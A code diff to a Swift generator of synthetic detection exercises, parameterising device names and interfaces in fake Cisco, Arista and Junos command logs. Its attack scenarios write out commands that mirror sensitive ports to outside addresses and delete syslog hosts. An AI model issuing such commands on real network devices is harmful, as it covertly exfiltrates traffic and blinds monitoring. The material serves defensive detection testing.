@@ -23,18 +23,19 @@ enum DeviceExercises {
     // MARK: Cisco IOS / IOS-XE
 
     static func ios(_ setup: ExerciseSetup) -> [ExerciseScenario] {
+        let target = setup.devices[.ciscoIOS]!, device = target.device, port = target.approvedInterface ?? "Gi1/0/48"
         func cmd(_ time: String, _ user: String, _ command: String) -> String {
-            "Nov  3 \(time) core-sw9 100: Nov  3 \(time).000 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:\(user)  logged command:\(command)"
+            "Nov  3 \(time) \(device) 100: Nov  3 \(time).000 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:\(user)  logged command:\(command)"
         }
-        let erspan = [cmd("10:00:01", "mallory", "monitor session 3 type erspan-source"), cmd("10:00:08", "mallory", "source interface Gi1/0/1"),
+        let erspan = [cmd("10:00:01", "mallory", "monitor session 3 type erspan-source"), cmd("10:00:08", "mallory", "source interface \(target.sensitiveInterface)"),
                       cmd("10:00:14", "mallory", "destination"), cmd("10:00:20", "mallory", "erspan-id 100"),
                       cmd("10:00:26", "mallory", "ip address 203.0.113.50"), cmd("10:00:31", "mallory", "no shutdown")]
-        let snapshot = ["devices/configs/2026-11-02/core-sw9.cfg": """
+        let snapshot = ["devices/configs/2026-11-02/\(device).cfg": """
         !RANCID-CONTENT-TYPE: cisco
-        hostname core-sw9
+        hostname \(device)
         !
-        monitor session 1 source interface Gi1/0/1 both
-        monitor session 1 destination interface Gi1/0/48
+        monitor session 1 source interface \(target.sensitiveInterface) both
+        monitor session 1 destination interface \(port)
         end
 
         """]
@@ -49,10 +50,10 @@ enum DeviceExercises {
               files: syslog([cmd("09:58:00", "mallory", "no logging host 10.5.5.5")])),
             s(.ciscoIOS, "unusual-identity-no-ticket", .attack, "An unknown user adds a SPAN session to the tap port without a ticket",
               rules: [RuleID.unauthorizedActor, RuleID.noTicket],
-              files: syslog([cmd("10:00:00", "mallory", "monitor session 4 source interface Gi1/0/2 both"), cmd("10:00:05", "mallory", "monitor session 4 destination interface Gi1/0/48")])),
+              files: syslog([cmd("10:00:00", "mallory", "monitor session 4 source interface Gi1/0/2 both"), cmd("10:00:05", "mallory", "monitor session 4 destination interface \(port)")])),
             s(.ciscoIOS, "approved-rollout", .benign, "The network team adds a SPAN session to the tap port under a ticket",
-              files: syslog([cmd("09:30:00", user, "monitor session 4 source interface Gi1/0/2 both"), cmd("09:30:05", user, "monitor session 4 destination interface Gi1/0/48")])
-                .merging(ticket("CHG-EX-4", "core-sw9", user)) { a, _ in a }),
+              files: syslog([cmd("09:30:00", user, "monitor session 4 source interface Gi1/0/2 both"), cmd("09:30:05", user, "monitor session 4 destination interface \(port)")])
+                .merging(ticket("CHG-EX-4", device, user)) { a, _ in a }),
             s(.ciscoIOS, "ordinary-changes", .benign, "Interface descriptions change; nothing is mirrored",
               files: syslog([cmd("09:40:00", user, "interface Gi1/0/5"), cmd("09:40:04", user, "description uplink to dist-sw2")])),
         ]
@@ -61,61 +62,64 @@ enum DeviceExercises {
     // MARK: Cisco NX-OS
 
     static func nxos(_ setup: ExerciseSetup) -> [ExerciseScenario] {
+        let target = setup.devices[.ciscoNXOS]!
         func accounting(_ time: String, _ user: String, _ commands: String) -> String {
             "Tue Nov  3 \(time) 2026:type=update:id=198.51.100.23@pts/0:user=\(user):cmd=configure terminal ; \(commands) (SUCCESS)"
         }
-        let erspan = accounting("10:00:00", "mallory", "monitor session 5 type erspan-source ; erspan-id 55 ; vrf default ; destination ip 203.0.113.50 ; source interface Ethernet1/5 both ; no shut")
+        let erspan = accounting("10:00:00", "mallory", "monitor session 5 type erspan-source ; erspan-id 55 ; vrf default ; destination ip 203.0.113.50 ; source interface \(target.sensitiveInterface) both ; no shut")
         let user = setup.deviceAuthorizedUser
-        let files = { (lines: [String]) in ["devices/syslog/leaf-nx9.accounting.log": lines.joined(separator: "\n") + "\n"] }
+        let files = { (lines: [String]) in ["devices/syslog/\(target.device).accounting.log": lines.joined(separator: "\n") + "\n"] }
         return [
             s(.ciscoNXOS, "sensitive-to-external", .attack, "ERSPAN from the payments port to an outside address", rules: exfiltration, files: files([erspan])),
             s(.ciscoNXOS, "create-then-delete", .attack, "The ERSPAN session is removed ten minutes later", rules: [RuleID.transient],
               files: files([erspan, accounting("10:10:00", "mallory", "no monitor session 5")])),
             s(.ciscoNXOS, "approved-rollout", .benign, "ERSPAN to the collector farm under a ticket",
-              files: files([accounting("09:30:00", user, "monitor session 6 type erspan-source ; erspan-id 66 ; vrf default ; destination ip 10.99.1.10 ; source interface Ethernet1/7 both ; no shut")])
-                .merging(ticket("CHG-EX-5", "leaf-nx9", user)) { a, _ in a }),
+              files: files([accounting("09:30:00", user, "monitor session 6 type erspan-source ; erspan-id 66 ; vrf default ; destination ip \(target.approvedAddress) ; source interface Ethernet1/7 both ; no shut")])
+                .merging(ticket("CHG-EX-5", target.device, user)) { a, _ in a }),
         ]
     }
 
     // MARK: Arista EOS
 
     static func eos(_ setup: ExerciseSetup) -> [ExerciseScenario] {
+        let target = setup.devices[.aristaEOS]!
         func accounting(_ time: String, _ user: String, _ task: Int, _ command: String) -> String {
-            "Nov  3 \(time) eos9 Aaa: %ACCOUNTING-6-CMD: \(user) vty5 198.51.100.23 stop task_id=\(task) start_time=1762167730.0 timezone=UTC service=shell priv-lvl=15 cmd=\(command)"
+            "Nov  3 \(time) \(target.device) Aaa: %ACCOUNTING-6-CMD: \(user) vty5 198.51.100.23 stop task_id=\(task) start_time=1762167730.0 timezone=UTC service=shell priv-lvl=15 cmd=\(command)"
         }
+        let sensitive = target.sensitiveInterface
         let user = setup.deviceAuthorizedUser
         return [
             s(.aristaEOS, "sensitive-to-external", .attack, "A GRE monitor session from the edge port to an outside address", rules: exfiltration,
-              files: syslog([accounting("10:00:00", "mallory", 11, "monitor session tapagg source Ethernet3 rx"),
+              files: syslog([accounting("10:00:00", "mallory", 11, "monitor session tapagg source \(sensitive) rx"),
                              accounting("10:00:09", "mallory", 12, "monitor session tapagg destination tunnel mode gre source 10.1.1.1 destination 198.51.100.77")])),
             s(.aristaEOS, "approved-rollout", .benign, "A monitor session to the tap port under a ticket",
               files: syslog([accounting("09:30:00", user, 21, "monitor session ndr source Ethernet4 both"),
-                             accounting("09:30:05", user, 22, "monitor session ndr destination Ethernet48")]).merging(ticket("CHG-EX-6", "eos9", user)) { a, _ in a }),
+                             accounting("09:30:05", user, 22, "monitor session ndr destination \(target.approvedInterface ?? "Ethernet48")")]).merging(ticket("CHG-EX-6", target.device, user)) { a, _ in a }),
         ]
     }
 
     // MARK: Junos
 
     static func junos(_ setup: ExerciseSetup) -> [ExerciseScenario] {
+        let target = setup.devices[.junos]!
         func cli(_ time: String, _ user: String, _ command: String) -> String {
-            "Nov  3 \(time) mx9 mgd[4242]: UI_CMDLINE_READ_LINE: User '\(user)', command '\(command) '"
+            "Nov  3 \(time) \(target.device) mgd[4242]: UI_CMDLINE_READ_LINE: User '\(user)', command '\(command) '"
         }
         let user = setup.deviceAuthorizedUser
         return [
             s(.junos, "sensitive-to-external", .attack, "An analyzer copies the customer port to an outside address", rules: exfiltration,
-              files: syslog([cli("10:00:01", "bob", "edit forwarding-options analyzer exfil"), cli("10:00:10", "bob", "set input ingress interface ge-0/0/3.0"),
+              files: syslog([cli("10:00:01", "bob", "edit forwarding-options analyzer exfil"), cli("10:00:10", "bob", "set input ingress interface \(target.sensitiveInterface).0"),
                              cli("10:00:20", "bob", "set output ip-address 203.0.113.61"), cli("10:00:41", "bob", "commit")])),
             s(.junos, "logging-off-first", .attack, "The syslog host is deleted", rules: [RuleID.loggingTampered],
               files: syslog([cli("09:58:00", "bob", "delete system syslog host 10.5.5.5"), cli("09:58:10", "bob", "commit")])),
             s(.junos, "approved-rollout", .benign, "Port mirroring to the collector farm under a ticket",
               files: syslog([cli("09:30:01", user, "edit forwarding-options analyzer ndr"), cli("09:30:10", user, "set input ingress interface ge-0/0/7.0"),
-                             cli("09:30:20", user, "set output ip-address 10.99.1.20"), cli("09:30:41", user, "commit")]).merging(ticket("CHG-EX-7", "mx9", user)) { a, _ in a }),
+                             cli("09:30:20", user, "set output ip-address \(target.approvedAddress)"), cli("09:30:41", user, "commit")]).merging(ticket("CHG-EX-7", target.device, user)) { a, _ in a }),
         ]
     }
 
-    static func background(platform: Platform, count: Int, random: inout ExerciseRandom) -> [String: String] {
+    static func background(platform: Platform, device host: String, count: Int, random: inout ExerciseRandom) -> [String: String] {
         guard count > 0 else { return [:] }
-        let host = ["cisco-ios": "core-sw9", "cisco-nxos": "leaf-nx9", "arista-eos": "eos9", "junos": "mx9"][platform.rawValue] ?? "dev9"
         let lines = (0..<count).map { _ -> String in
             let time = String(format: "Nov  3 %02d:%02d:%02d", 8 + random.below(8), random.below(60), random.below(60))
             let port = random.below(48) + 1
